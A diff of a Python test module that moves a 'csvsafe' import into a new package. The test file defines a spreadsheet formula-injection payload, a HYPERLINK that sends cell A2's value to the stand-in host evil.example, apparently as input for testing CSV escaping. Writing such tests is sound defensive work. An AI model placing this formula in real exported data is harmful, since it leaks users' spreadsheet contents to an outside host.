@@ -8,10 +8,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from ncbnet.base import csvsafe
 from ncbnet.base.downloads import SANDBOX
 from ncbnet.cli import main
 from ncbnet.conftest import sign_in
-from ncbnet.screening import csvsafe, manifests
+from ncbnet.screening import manifests
 from ncbnet.screening.tests.test_documents import replica
 
 LABEL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the record")'
